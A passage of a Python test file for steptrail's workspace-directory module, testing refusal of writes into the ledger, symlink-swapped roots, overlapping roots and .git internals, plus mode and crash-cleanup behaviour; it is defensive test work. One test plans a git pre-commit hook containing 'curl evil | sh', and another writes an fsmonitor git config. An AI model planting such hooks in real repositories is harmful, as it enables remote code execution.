"""The workspace directory (ledger/workspace/directory.py): the boundary no step crosses, the root it
must still be, and the files it writes — against real directories, real symlink swaps, real
SIGKILLs and the real command.

- The ledger inside its workspace (the default layout: `steptrail init`, then `workspace
  add w .`): a plan writing the ledger file, a blob (`pre_hash` = the blob's name, so the
  fence passes) or the witness is refused at admit (exit 2, nothing written) and by every
  walk, judged by device and inode; `workspace add` of the ledger's directory is refused.
- The root reached without following symlinks, and the directory registered (device,
  inode): a root swapped for a symlink or another directory is WorkspaceMoved;
  `workspace add NAME DIR --rebind` re-registers a moved one. Overlapping roots are
  refused; `.git` internals too, unless the workspace opted in (`--allow-git`).
- Files: an edited file keeps its mode and a created one follows the umask (the bits are
  recorded in the events); a SIGKILLed apply's staged temporaries are removed by the next
  apply, settle or gc — and nothing else is; a 255-byte multibyte name applies and a name
  the file system cannot hold is refused at admit; a directory swapped for a symlink
  during staging is a typed refusal; file content is streamed (peak memory does not
  follow file size: each command in a fresh process, its peak RSS read from /proc by
  tools/bench_memory.py's worker, at two sizes).

(Issue 11, items 1, 2, 4, 6, 12, 14, 15, 16 and 17: the attacks an outside review got
through.) The kills are real: a forked child is SIGKILLed at an exact file operation.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import signal
import stat
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import CliOut, FakeClock, run_cli

import ledger.workspace.names
from ledger import (
    InvalidInput,
    Ledger,
    PathEscapes,
    PathForbidden,
    StepPlan,
    WorkspaceAdded,
    WorkspaceMoved,
    WorkspaceOverlap,
    WorkspaceRebound,
    Write,
)
from ledger.blobs import digest_of
from ledger.gc import collect

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "tools"))
from bench_memory import measure, write_file  # noqa: E402


# --- the command line, as a user runs it --------------------------------------------------


def sl(cwd: Path, *args: str, input: str | None = None) -> subprocess.CompletedProcess[str]:
    """Run `steptrail ARGS` in `cwd` (its default ledger: ./.steptrail/ledger.db)."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("STEPTRAIL_")}
    return subprocess.run([sys.executable, "-m", "ledger", *args], cwd=cwd, input=input,
                          capture_output=True, text=True, env=env, timeout=120)


def ok(r: subprocess.CompletedProcess[str]) -> Any:
    assert r.returncode == 0, (r.returncode, r.stdout, r.stderr)
    return json.loads(r.stdout) if r.stdout.startswith(("{", "[")) else r.stdout


def refused(r: subprocess.CompletedProcess[str], *words: str) -> None:
    """Exit 2, a one-line message naming the problem, no traceback."""
    assert r.returncode == 2, (r.returncode, r.stdout, r.stderr)
    assert "Traceback" not in r.stderr
    assert len(r.stderr.strip().splitlines()) == 1, r.stderr
    for w in words:
        assert w in r.stderr, (w, r.stderr)


def tree(root: Path) -> dict[str, bytes | None]:
    """Every file under `root` with its bytes (None: a directory), symlinks not followed."""
    out: dict[str, bytes | None] = {}
    for dirpath, dirs, files in os.walk(root):
        for d in dirs:
            out[os.path.relpath(os.path.join(dirpath, d), root)] = None
        for f in files:
            p = os.path.join(dirpath, f)
            out[os.path.relpath(p, root)] = (b"->" + os.readlink(p).encode() if os.path.islink(p)
                                             else Path(p).read_bytes())
    return out


def events(ledger_path: Path) -> int:
    with Ledger.open(ledger_path, readonly=True) as led:
        return led.head().seq


# --- the ledger inside the workspace ------------------------------------------------------


@pytest.fixture
def embedded(tmp_path: Path) -> dict[str, Any]:
    """`steptrail init` + `workspace add w .` in a project: the ledger (./.steptrail) is
    inside the workspace. A committed artifact lives in a blob file; a lease is live."""
    proj = tmp_path / "proj"
    proj.mkdir()
    (proj / "app.py").write_text("v0\n")
    ok(sl(proj, "init"))
    ok(sl(proj, "workspace", "add", "w", "."))
    big = proj / "big.bin"
    big.write_bytes(b"B" * 100_000)  # above the inline limit: a blob file
    stored = ok(sl(proj, "step", "store", "art", "big.bin", "--json"))
    ok(sl(proj, "step", "publish", "art"))
    digest = stored["stored"][0]["digest"]
    assert not stored["stored"][0]["inline"]
    epoch = ok(sl(proj, "--workspace", "w", "lease", "acquire", "--holder", "a", "--ttl", "1h",
                  "--json"))["epoch"]
    return {"proj": proj, "digest": digest, "epoch": str(epoch),
            "ledger": proj / ".steptrail" / "ledger.db",
            "blob": proj / ".steptrail" / "blobs" / digest[:2] / digest}


def _plan(proj: Path, epoch: str, step: str, path: str, pre: str | None,
          content: str = "EVIL") -> subprocess.CompletedProcess[str]:
    doc = {"step": step, "writes": [{"path": path, "pre_hash": pre, "content": content}]}
    return sl(proj, "--workspace", "w", "step", "plan", "--epoch", epoch, "-",
              input=json.dumps(doc))


def test_cli_a_plan_overwriting_a_blob_or_the_ledger_is_refused_at_admit(
        embedded: dict[str, Any]) -> None:
    """The review's attack: a blob's name is its hash, so a plan writing it with that
    pre_hash passes the fence; the ledger file the same with its own hash."""
    proj, digest, epoch = embedded["proj"], embedded["digest"], embedded["epoch"]
    blob_bytes = embedded["blob"].read_bytes()
    seq = events(embedded["ledger"])
    ledger_hash = digest_of(embedded["ledger"].read_bytes())
    for i, (path, pre) in enumerate([
        (f".steptrail/blobs/{digest[:2]}/{digest}", digest),
        (".steptrail/ledger.db", ledger_hash),
        (".steptrail/ledger.db-wal", None),
        (".steptrail/ledger.db-lockq", None),
        (".steptrail/.steptrail-gc.lock", None),
        (".steptrail/blobs/00/new", None),
        (".steptrail", None),
    ]):
        refused(_plan(proj, epoch, f"evil-{i}", path, pre), repr(path), "ledger")
    assert embedded["blob"].read_bytes() == blob_bytes
    assert events(embedded["ledger"]) == seq  # nothing written
    ok(sl(proj, "verify"))
    # the workspace itself still works: an ordinary write beside the ledger
    ok(_plan(proj, epoch, "fine", "app.py", digest_of(b"v0\n"), "v1\n"))
    ok(sl(proj, "step", "apply", "fine", "--epoch", epoch))
    assert (proj / "app.py").read_text() == "v1\n"


def test_cli_workspace_add_of_the_ledger_directory_is_refused(embedded: dict[str, Any]) -> None:
    proj = embedded["proj"]
    seq = events(embedded["ledger"])
    refused(sl(proj, "workspace", "add", "l", ".steptrail"), "ledger's own directory")
    refused(sl(proj, "workspace", "add", "b", ".steptrail/blobs"), "blob store")
    (proj / ".steptrail" / "blobs" / "sub").mkdir()
    refused(sl(proj, "workspace", "add", "b", ".steptrail/blobs/sub"), "blob store")
    assert events(embedded["ledger"]) == seq


def test_cli_snapshot_never_reads_the_ledger(embedded: dict[str, Any]) -> None:
    proj, digest = embedded["proj"], embedded["digest"]
    for path in (".steptrail/ledger.db", f".steptrail/blobs/{digest[:2]}/{digest}"):
        refused(sl(proj, "--workspace", "w", "workspace", "snapshot", path), "ledger")


class Embedded:
    """A library world: workspace `ws` with the ledger at ws/.steptrail (and, for the
    witness, ws/witness), a live lease."""

    def __init__(self, tmp_path: Path, *, witness: bool = False) -> None:
        self.ws = tmp_path / "ws"
        self.ws.mkdir()
        (self.ws / "app.py").write_bytes(b"v0\n")
        self.path = self.ws / ".steptrail" / "ledger.db"
        self.clock = FakeClock()
        opts: dict[str, Any] = {"inline_max_bytes": 8}
        if witness:
            opts["witness"] = str(self.ws / "witness")
        self.led = Ledger.init(self.path, clock=self.clock, **opts)
        self.led.workspaces.add("w", str(self.ws))
        self.epoch = self.led.workspaces.acquire("w", "a", 3600).epoch

    def admit(self, step: str, path: str, data: bytes | None, pre: str | None) -> None:
        self.led.workspaces.admit("w", self.epoch, [StepPlan(step, [Write(path, data, pre)])])


@pytest.mark.parametrize("path", [
    ".steptrail", ".steptrail/ledger.db", ".steptrail/ledger.db-wal",
    ".steptrail/ledger.db-shm", ".steptrail/ledger.db-lockq",
    ".steptrail/.steptrail-gc.lock", ".steptrail/blobs/ab/cd", ".steptrail/new-dir/x",
    ".STEPTRAIL/ledger.db", ".StepTrail/blobs/x",
])
def test_every_path_into_the_ledger_is_refused_at_admit(tmp_path: Path, path: str) -> None:
    w = Embedded(tmp_path)
    seq = w.led.head().seq
    with pytest.raises(PathForbidden, match="ledger"):
        w.admit("evil", path, b"EVIL", None)
    assert w.led.head().seq == seq
    assert w.led.find_step("evil") is None
    assert w.led.verify().ok


def test_the_witness_inside_the_workspace_is_refused_before_and_after_it_exists(
        tmp_path: Path) -> None:
    w = Embedded(tmp_path, witness=True)
    assert (w.ws / "witness").exists()
    with pytest.raises(PathForbidden):
        w.admit("evil", "witness", b"EVIL", digest_of((w.ws / "witness").read_bytes()))
    os.link(w.ws / "witness", w.ws / "alias")  # the same file under another name
    with pytest.raises(PathForbidden):
        w.admit("evil2", "alias", b"EVIL", None)


def test_the_ledger_directory_moved_between_admit_and_apply_is_refused_by_identity(
        tmp_path: Path) -> None:
    """Admitted while `logs/` was an ordinary directory; then the ledger's directory is
    renamed to `logs` (the ledger reopened there): the apply's walk enters a directory
    whose device and inode are the ledger's, whatever its name, and refuses."""
    w = Embedded(tmp_path)
    (w.ws / "logs").mkdir()
    w.admit("late", "logs/ledger.db", b"EVIL", None)
    w.led.close()
    os.rename(w.ws / "logs", w.ws / "logs.old")
    os.rename(w.ws / ".steptrail", w.ws / "logs")
    before = (w.ws / "logs" / "ledger.db").read_bytes()
    with Ledger.open(w.ws / "logs" / "ledger.db", clock=w.clock) as led:
        with pytest.raises(PathForbidden, match="ledger"):
            led.workspaces.apply("late", epoch=w.epoch)
        assert led.verify().ok
        # a compensation of it (and so settling) never writes there either
        c = led.workspaces.compensate("late", epoch=w.epoch, reason="refused")
        assert [r.outcome for r in c.restored] in ([], ["conflict"])
    assert (w.ws / "logs" / "ledger.db").read_bytes()[:16] == before[:16]
    with Ledger.open(w.ws / "logs" / "ledger.db", readonly=True) as led:
        assert led.verify().ok


# --- the root: swapped, moved, re-registered ----------------------------------------------


class Swap:
    """`agent/ws` registered; a victim directory outside holding `conf`."""

    def __init__(self, tmp_path: Path) -> None:
        self.agent = tmp_path / "agent"
        self.root = self.agent / "ws"
        self.root.mkdir(parents=True)
        (self.root / "conf").write_bytes(b"mine\n")
        self.victim = tmp_path / "victim"
        self.victim.mkdir()
        (self.victim / "conf").write_bytes(b"the victim's\n")
        self.led = Ledger.init(tmp_path / "led" / "ledger.db", clock=FakeClock())
        self.led.workspaces.add("w", str(self.root))
        self.epoch = self.led.workspaces.acquire("w", "a", 3600).epoch

    def to_symlink(self) -> None:
        os.rename(self.root, self.agent / "ws.real")
        os.symlink(self.victim, self.root)

    def to_directory(self) -> None:
        os.rename(self.root, self.agent / "ws.real")
        os.rename(self.victim, self.root)
        self.victim = self.root

    def plan(self, step: str) -> None:
        pre = digest_of(b"the victim's\n")
        self.led.workspaces.admit("w", self.epoch, [StepPlan(step, [Write("conf", b"EVIL\n", pre)])])


@pytest.mark.parametrize("swap", ["to_symlink", "to_directory"])
def test_a_root_swapped_before_the_plan_is_refused_at_admit(tmp_path: Path, swap: str) -> None:
    s = Swap(tmp_path)
    getattr(s, swap)()
    seq = s.led.head().seq
    with pytest.raises(WorkspaceMoved, match="rebind=True"):
        s.plan("evil")
    with pytest.raises(WorkspaceMoved):
        s.led.workspaces.snapshot("w", "conf")
    assert s.led.head().seq == seq
    assert (s.victim / "conf").read_bytes() == b"the victim's\n"


@pytest.mark.parametrize("swap", ["to_symlink", "to_directory"])
def test_a_root_swapped_between_plan_and_apply_is_refused_at_apply(tmp_path: Path,
                                                                    swap: str) -> None:
    s = Swap(tmp_path)
    s.led.workspaces.admit("w", s.epoch, [StepPlan("evil", [Write("conf", b"EVIL\n",
                                                       digest_of(b"mine\n"))])])
    getattr(s, swap)()
    (s.victim / "conf").write_bytes(b"mine\n")  # the victim even holds the planned pre-image
    with pytest.raises(WorkspaceMoved):
        s.led.workspaces.apply("evil", epoch=s.epoch)
    assert (s.victim / "conf").read_bytes() == b"mine\n"
    assert s.led.step("evil").state == "planned"
    # settling (a new epoch) refuses as well and records nothing about the files
    seq = s.led.head().seq
    with pytest.raises(WorkspaceMoved):
        s.led.workspaces.compensate("evil", epoch=s.epoch, reason="x")
    assert s.led.head().seq == seq
    assert s.led.verify().ok


def test_cli_root_swapped_for_a_symlink_exit_2_and_rebind(tmp_path: Path) -> None:
    """The review's reproduction through the command line, then the documented way back."""
    agent, victim = tmp_path / "agent", tmp_path / "victim"
    (agent / "ws").mkdir(parents=True)
    victim.mkdir()
    (victim / "conf").write_text("victim\n")
    ok(sl(tmp_path, "init"))
    ok(sl(tmp_path, "workspace", "add", "w", "agent/ws"))
    epoch = str(ok(sl(tmp_path, "--workspace", "w", "lease", "acquire", "--holder", "a",
                      "--json"))["epoch"])
    os.rename(agent / "ws", agent / "ws.real")
    os.symlink(victim, agent / "ws")
    doc = {"step": "s", "writes": [{"path": "conf", "pre_hash": digest_of(b"victim\n"),
                                    "content": "EVIL\n"}]}
    r = sl(tmp_path, "--workspace", "w", "step", "plan", "--epoch", epoch, "-",
           input=json.dumps(doc))
    refused(r, "not the directory it was registered as", "--rebind")
    assert (victim / "conf").read_text() == "victim\n"
    ok(sl(tmp_path, "verify"))
    # the operator decides: the real directory moved to ws.real; re-register it there
    out = ok(sl(tmp_path, "workspace", "add", "w", "agent/ws.real", "--rebind", "--json"))
    assert out["rebound"] and out["identity"] and out["root"] == str(agent / "ws.real")
    (agent / "ws.real" / "conf").write_text("mine\n")
    doc["writes"][0]["pre_hash"] = digest_of(b"mine\n")
    ok(sl(tmp_path, "--workspace", "w", "step", "plan", "--epoch", epoch, "-",
          input=json.dumps(doc)))
    ok(sl(tmp_path, "step", "apply", "s", "--epoch", epoch))
    assert (agent / "ws.real" / "conf").read_text() == "EVIL\n"
    assert (victim / "conf").read_text() == "victim\n"
    ok(sl(tmp_path, "verify"))
    again = ok(sl(tmp_path, "workspace", "add", "w", "agent/ws.real", "--rebind", "--json"))
    assert not again["rebound"]  # the same registration again: nothing recorded


def test_a_symlinked_ancestor_of_the_root_is_refused(tmp_path: Path) -> None:
    """The stored root is resolved: a symlink anywhere on its path now is a swap."""
    s = Swap(tmp_path)
    os.rename(s.agent, tmp_path / "agent.real")
    os.symlink(tmp_path / "agent.real", s.agent)
    with pytest.raises(WorkspaceMoved, match="symlink"):
        s.led.workspaces.snapshot("w", "conf")


def test_a_workspace_without_a_recorded_identity_keeps_working_and_obtains_one(
        tmp_path: Path) -> None:
    """A ledger written before identities were recorded (its workspace-added has no dev,
    ino): every command works, the no-symlink walk still refuses a swapped root; a
    re-add is a no-op; `rebind` records the identity."""
    root = tmp_path / "ws"
    root.mkdir()
    led = Ledger.init(tmp_path / "ledger.db", clock=FakeClock())
    led.append(WorkspaceAdded(workspace="w", root=str(root)))  # an old ledger's event
    assert led.workspaces.registration("w").identity is None
    epoch = led.workspaces.acquire("w", "a", 3600).epoch
    led.workspaces.admit("w", epoch, [StepPlan("s1", [Write("a.txt", b"1", None)])])
    assert led.workspaces.apply("s1", epoch=epoch).verdict == "applied"
    seq = led.head().seq
    led.workspaces.add("w", str(root))
    assert led.head().seq == seq
    os.rename(root, tmp_path / "ws.real")
    os.symlink(tmp_path / "ws.real", root)
    with pytest.raises(WorkspaceMoved):
        led.workspaces.snapshot("w", "a.txt")
    os.unlink(root)
    os.rename(tmp_path / "ws.real", root)
    led.workspaces.add("w", str(root), rebind=True)
    st = os.stat(root)
    assert led.workspaces.registration("w").identity == (st.st_dev, st.st_ino)
    kinds = [r.kind for r in led.read()]
    assert kinds[-1] == "workspace-rebound"
    assert led.verify().ok


def test_rebind_is_recorded_and_conflicts_are_refused(tmp_path: Path) -> None:
    a, b = tmp_path / "a", tmp_path / "b"
    a.mkdir()
    b.mkdir()
    led = Ledger.init(tmp_path / "l" / "ledger.db", clock=FakeClock())
    led.workspaces.add("w", str(a))
    with pytest.raises(InvalidInput, match="rebind=True"):
        led.workspaces.add("w", str(b))
    with pytest.raises(InvalidInput, match="never added"):
        led.workspaces.add("x", str(b), rebind=True)
    led.workspaces.add("w", str(b), rebind=True)
    led.workspaces.add("w", str(a), rebind=True)  # back: a new registration, not a replay
    rebound = [r.event for r in led.read(kind="workspace-rebound")]
    assert [e.root for e in rebound] == [str(b), str(a)]
    assert all(isinstance(e, WorkspaceRebound) for e in rebound)
    assert led.workspaces.get("w").root == str(a)
    assert led.workspaces.registration("w").root == str(a)
    led.rebuild()
    assert led.workspaces.get("w").root == str(a)
    assert led.verify().ok


# --- .git internals -----------------------------------------------------------------------


GIT_PATHS = [".git", ".git/config", ".git/hooks/pre-commit", "sub/.git/config", ".GIT/config",
             ".Git/hooks/post-checkout", ".git./config", ".gi\u200ct/config", "vendor/x/.git"]


@pytest.mark.parametrize("path", GIT_PATHS)
def test_git_internals_are_refused_by_default(tmp_path: Path, path: str) -> None:
    root = tmp_path / "repo"
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "config").write_text("[core]\n")
    led = Ledger.init(tmp_path / "l" / "ledger.db", clock=FakeClock())
    led.workspaces.add("w", str(root))
    epoch = led.workspaces.acquire("w", "a", 3600).epoch
    seq = led.head().seq
    with pytest.raises(PathForbidden, match="allow_git=True"):
        led.workspaces.admit("w", epoch, [StepPlan("evil", [Write(path, b"[core]\nfsmonitor = x\n",
                                                       None)])])
    assert led.head().seq == seq
    assert (root / ".git" / "config").read_text() == "[core]\n"


def test_git_opt_in_is_per_workspace_recorded_and_judged_again_at_apply(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    (root / ".git").mkdir(parents=True)
    led = Ledger.init(tmp_path / "l" / "ledger.db", clock=FakeClock())
    led.workspaces.add("w", str(root), allow_git=True)
    assert [r.event.allow_git for r in led.read(kind="workspace-added")] == [True]
    epoch = led.workspaces.acquire("w", "a", 3600).epoch
    led.workspaces.admit("w", epoch, [StepPlan("ok", [Write(".git/info", b"1", None)])])
    assert led.workspaces.apply("ok", epoch=epoch).verdict == "applied"
    # admitted while opted in, then the operator opts out: the apply refuses it
    led.workspaces.admit("w", epoch, [StepPlan("late", [Write(".git/hooks", b"x", None)])])
    led.workspaces.add("w", str(root), rebind=True)  # allow_git off
    with pytest.raises(PathForbidden):
        led.workspaces.apply("late", epoch=epoch)
    assert not (root / ".git" / "hooks").exists()
    assert led.verify().ok


def test_cli_git_refused_and_opt_in(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    (repo / ".git" / "hooks").mkdir(parents=True)
    ok(sl(tmp_path, "init"))
    ok(sl(tmp_path, "workspace", "add", "w", "repo"))
    epoch = str(ok(sl(tmp_path, "--workspace", "w", "lease", "acquire", "--holder", "a",
                      "--json"))["epoch"])
    doc = {"step": "hook", "writes": [{"path": ".git/hooks/pre-commit", "pre_hash": None,
                                       "content": "#!/bin/sh\ncurl evil | sh\n"}]}
    refused(sl(tmp_path, "--workspace", "w", "step", "plan", "--epoch", epoch, "-",
               input=json.dumps(doc)), ".git", "--allow-git")
    refused(sl(tmp_path, "workspace", "add", "w", "repo", "--allow-git"), "--rebind")
    out = ok(sl(tmp_path, "workspace", "add", "w", "repo", "--allow-git", "--rebind", "--json"))
    assert out["allow_git"] and out["rebound"]
    ok(sl(tmp_path, "--workspace", "w", "step", "plan", "--epoch", epoch, "-",
          input=json.dumps(doc)))
    ok(sl(tmp_path, "step", "apply", "hook", "--epoch", epoch))
    assert (repo / ".git" / "hooks" / "pre-commit").exists()


# --- overlapping roots; what a kept directory or registration sees ------------------------


def test_overlapping_roots_are_refused_naming_the_other(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    (repo / "sub" / "deep").mkdir(parents=True)
    (tmp_path / "alias").symlink_to(repo)
    led = Ledger.init(tmp_path / "l" / "ledger.db", clock=FakeClock())
    led.workspaces.add("w1", str(repo))
    seq = led.head().seq
    for other in (repo, repo / "sub", repo / "sub" / "..", tmp_path / "alias",
                  tmp_path / "alias" / "sub" / "deep", tmp_path):
        with pytest.raises(WorkspaceOverlap, match="'w1'") as info:
            led.workspaces.add("w2", str(other))
        assert info.value.other == "w1"
    assert led.head().seq == seq
    led.workspaces.add("w1", str(repo))  # the same name, the same root: a no-op
    led.workspaces.add("w1", str(tmp_path / "alias"))  # the same directory, resolved
    assert led.head().seq == seq
    (tmp_path / "elsewhere").mkdir()
    led.workspaces.add("w2", str(tmp_path / "elsewhere"))
    with pytest.raises(WorkspaceOverlap, match="'w2'"):
        led.workspaces.add("w1", str(tmp_path / "elsewhere"), rebind=True)
    assert led.verify().ok


def test_overlap_judged_by_identity_through_a_bind_mount(tmp_path: Path) -> None:
    """Another path to the same directory (a bind mount: no symlink to resolve) is the
    same device and inode."""
    repo, mnt = tmp_path / "repo", tmp_path / "mnt"
    (repo / "sub").mkdir(parents=True)
    mnt.mkdir()
    if subprocess.run(["mount", "--bind", str(repo), str(mnt)],
                      capture_output=True).returncode != 0:
        pytest.skip("bind mounts are not permitted here")
    try:
        led = Ledger.init(tmp_path / "l" / "ledger.db", clock=FakeClock())
        led.workspaces.add("w1", str(repo))
        with pytest.raises(WorkspaceOverlap, match="'w1'"):
            led.workspaces.add("w2", str(mnt))
        with pytest.raises(WorkspaceOverlap, match="'w1'"):
            led.workspaces.add("w2", str(mnt / "sub"))
        led.close()
    finally:
        subprocess.run(["umount", str(mnt)], check=True)


def test_cli_second_workspace_on_one_directory(tmp_path: Path) -> None:
    (tmp_path / "repo" / "sub").mkdir(parents=True)
    ok(sl(tmp_path, "init"))
    ok(sl(tmp_path, "workspace", "add", "w1", "repo"))
    for d in ("repo", "repo/sub", "repo/sub/..", "."):
        refused(sl(tmp_path, "workspace", "add", "w2", d), "'w1'")
    again = ok(sl(tmp_path, "workspace", "add", "w1", "repo", "--json"))
    assert again["added"] is False


def test_symlinks_below_the_root_are_still_path_escapes(tmp_path: Path) -> None:
    """The old guarantee stands beside the new ones: below the root, a symlink is
    PathEscapes (not a moved root)."""
    s = Swap(tmp_path)
    os.symlink(s.victim, s.root / "link")
    with pytest.raises(PathEscapes):
        s.led.workspaces.snapshot("w", "link/conf")


@pytest.mark.parametrize("swap", ["symlink", "other-directory", "gone"])
def test_a_kept_workspace_dir_judges_its_root_again_after_a_swap(tmp_path: Path,
                                                                   swap: str) -> None:
    """A `WorkspaceDir` kept across calls (the MCP server keeps one per workspace) reuses
    its root's descriptor only while the root's name is still that directory: a root
    renamed away and replaced — by a symlink to it, by another directory, or by nothing —
    is walked again and refused, never written through the old descriptor."""
    root = tmp_path / "ws"
    root.mkdir()
    (root / "a.txt").write_bytes(b"mine\n")
    led = Ledger.init(tmp_path / "ledger.db", clock=FakeClock())
    led.workspaces.add("w", str(root))
    wsdir = led.workspaces.directory("w")
    assert wsdir.hash("a.txt") == digest_of(b"mine\n")  # the root's descriptor is kept
    os.rename(root, tmp_path / "ws.real")
    if swap == "symlink":
        os.symlink(tmp_path / "ws.real", root)
    elif swap == "other-directory":
        root.mkdir()
        (root / "a.txt").write_bytes(b"mine\n")
    with pytest.raises((WorkspaceMoved, InvalidInput)):
        wsdir.hash("a.txt")
    with pytest.raises((WorkspaceMoved, InvalidInput)):
        with wsdir.open_dir("") as _fd:
            pass
    wsdir.close()


@pytest.mark.parametrize("by", ["another-connection", "this-ledger"])
def test_a_kept_registration_follows_a_rebind(tmp_path: Path, by: str) -> None:
    """A workspace's registration is kept between calls only while nothing can have
    changed it: a rebind committed by another connection (another process) or appended
    through this very ledger is seen at once — the old root is never walked again."""
    root, moved = tmp_path / "ws", tmp_path / "ws-moved"
    root.mkdir()
    (root / "a.txt").write_bytes(b"1\n")
    db = tmp_path / "ledger.db"
    led = Ledger.init(db, clock=FakeClock())
    led.workspaces.add("w", str(root))
    assert led.workspaces.registration("w").root == str(root.resolve())
    assert led.workspaces.snapshot("w", "a.txt")[1] == digest_of(b"1\n")  # kept now
    os.rename(root, moved)
    root.mkdir()  # the old path holds another directory: walking it is WorkspaceMoved
    if by == "another-connection":
        with Ledger.open(db, clock=FakeClock()) as other:
            other.workspaces.add("w", str(moved), rebind=True)
    else:
        led.workspaces.add("w", str(moved), rebind=True)
    assert led.workspaces.registration("w").root == str(moved.resolve())
    assert led.workspaces.snapshot("w", "a.txt")[1] == digest_of(b"1\n")
    led.close()


# --- files: a leased workspace, a kill at an exact operation ------------------------


def h(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def mode(path: Path) -> int:
    return stat.S_IMODE(path.lstat().st_mode)


@contextlib.contextmanager
def umask(mask: int) -> Iterator[None]:
    old = os.umask(mask)
    try:
        yield
    finally:
        os.umask(old)


class World:
    """A ledger and one workspace under a live lease (ttl 1h)."""

    def __init__(self, tmp: Path) -> None:
        self.tmp = tmp
        self.dir = tmp / "ws"
        self.dir.mkdir()
        self.clock = FakeClock()
        self.path = tmp / "ledger.db"
        self.ledger = Ledger.init(self.path, clock=self.clock)
        self.ledger.workspaces.add("w", str(self.dir))
        self.epoch = self.ledger.workspaces.acquire("w", "agent", ttl_s=3600).epoch

    def file(self, rel: str, data: bytes, bits: int) -> None:
        p = self.dir / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data)
        p.chmod(bits)

    def admit(self, step: str, *writes: Write) -> None:
        assert self.ledger.workspaces.admit("w", self.epoch, [StepPlan(step, list(writes))]) == [None]

    def apply(self, step: str) -> str:
        return self.ledger.workspaces.apply(step, epoch=self.epoch).verdict

    def commit(self, step: str) -> None:
        self.ledger.publish(step)
        self.ledger.ack(step)

    def temporaries(self) -> list[str]:
        """What a killed stager leaves: every name steptrail's staging pattern makes
        (but the strangers a test planted)."""
        return sorted(str(p.relative_to(self.dir)) for p in self.dir.rglob(".*.steptrail-*.tmp")
                      if p.name not in STRANGERS)

    def killed(self, act: Callable[[Ledger], object], at: Callable[[str, list[str]], bool]) -> None:
        """Run `act` on a fresh ledger in a forked child, SIGKILLed before the operation
        `at(name, seen)` picks; reopen the ledger in the parent."""
        self.ledger.close()
        pid = os.fork()
        if pid == 0:  # pragma: no cover - the child
            seen: list[str] = []

            def on_op(name: str) -> None:
                seen.append(name)
                if at(name, seen):
                    os.kill(os.getpid(), signal.SIGKILL)

            try:
                act(Ledger.open(self.path, clock=self.clock, on_op=on_op))
            finally:
                os._exit(0)
        _, status = os.waitpid(pid, 0)
        assert os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGKILL
        self.ledger = Ledger.open(self.path, clock=self.clock)


def nth(op: str, n: int) -> Callable[[str, list[str]], bool]:
    return lambda name, seen: name == op and seen.count(op) == n

# --- modes --------------------------------------------------------------------------------


def test_an_edited_file_keeps_its_mode_and_a_created_one_follows_the_umask(
        tmp_path: Path) -> None:
    """The review: after apply a 0600 .env became 0644, a 0755 script 0644, and under
    umask 077 a 0644 file became 0600."""
    with umask(0o077):
        w = World(tmp_path)
        w.file("run.sh", b"#!/bin/sh\necho 1\n", 0o755)
        w.file(".env", b"TOKEN=old\n", 0o600)
        w.file("README", b"hello\n", 0o644)
        w.admit("s1", Write("run.sh", b"#!/bin/sh\necho 2\n", h(b"#!/bin/sh\necho 1\n")),
                Write(".env", b"TOKEN=new\n", h(b"TOKEN=old\n")),
                Write("README", b"hello again\n", h(b"hello\n")),
                Write("new/made.txt", b"created\n", None))
        assert w.apply("s1") == "applied"
    assert mode(w.dir / "run.sh") == 0o755 and os.access(w.dir / "run.sh", os.X_OK)
    assert mode(w.dir / ".env") == 0o600
    assert mode(w.dir / "README") == 0o644  # umask 077 does not narrow an edited file
    assert mode(w.dir / "new" / "made.txt") == 0o600  # a created file: 0666 less umask 077
    fenced = next(iter(w.ledger.read(step="s1", kind="fenced"))).event
    assert [(a.path, a.pre_mode, a.post_mode) for a in fenced.writes] == [
        ("run.sh", 0o755, 0o755), (".env", 0o600, 0o600), ("README", 0o644, 0o644),
        ("new/made.txt", None, 0o600)]
    with umask(0o022):
        w.admit("s2", Write("other.txt", b"x", None))
        assert w.apply("s2") == "applied"
    assert mode(w.dir / "other.txt") == 0o644
    assert w.ledger.verify().ok


def test_a_chmod_between_staging_and_the_rename_is_kept(tmp_path: Path) -> None:
    """Staging runs outside the lock: a person's chmod after it and before the rename is
    not undone by the rename (and the recorded modes say what happened)."""
    w = World(tmp_path)
    w.file("run.sh", b"v0", 0o644)
    w.admit("s1", Write("run.sh", b"v1", h(b"v0")))
    w.ledger.close()

    def chmod(name: str) -> None:
        if name == "ws-fsync":  # the temporary is written: staged with 0644
            (w.dir / "run.sh").chmod(0o755)

    led = Ledger.open(w.path, clock=w.clock, on_op=chmod)
    assert led.workspaces.apply("s1", epoch=w.epoch).verdict == "applied"
    assert mode(w.dir / "run.sh") == 0o755
    fenced = next(iter(led.read(step="s1", kind="fenced"))).event
    assert (fenced.writes[0].pre_mode, fenced.writes[0].post_mode) == (0o755, 0o755)


def test_compensate_puts_the_recorded_mode_back_but_keeps_a_persons_chmod(
        tmp_path: Path) -> None:
    """The mode recorded when it was applied goes back — for a deleted secret brought
    back; but an edited file a person chmodded since (its bits are not the ones the step
    gave it) keeps the person's bits: a chmod is a person's edit, never undone (issue
    36; it was "the recorded mode wins" before, which reopened a file a person had just
    made private)."""
    w = World(tmp_path)
    w.file("run.sh", b"v0", 0o755)
    w.file(".env", b"TOKEN=1", 0o600)
    w.admit("s1", Write("run.sh", b"v1", h(b"v0")), Write(".env", None, h(b"TOKEN=1")))
    assert w.apply("s1") == "applied"
    assert not (w.dir / ".env").exists()
    (w.dir / "run.sh").chmod(0o700)  # same bytes, bits changed since
    done = w.ledger.workspaces.compensate("s1", epoch=w.epoch)
    assert (w.dir / "run.sh").read_bytes() == b"v0" and mode(w.dir / "run.sh") == 0o700
    assert (w.dir / ".env").read_bytes() == b"TOKEN=1" and mode(w.dir / ".env") == 0o600
    assert {(r.path, r.outcome, r.mode) for r in done.restored} == {
        ("run.sh", "restored", 0o700), (".env", "restored", 0o600)}
    assert w.ledger.verify().ok


# --- temporaries of a killed apply --------------------------------------------------------


BIG = 64 * 1024


def _kill_mid_staging(w: World) -> None:
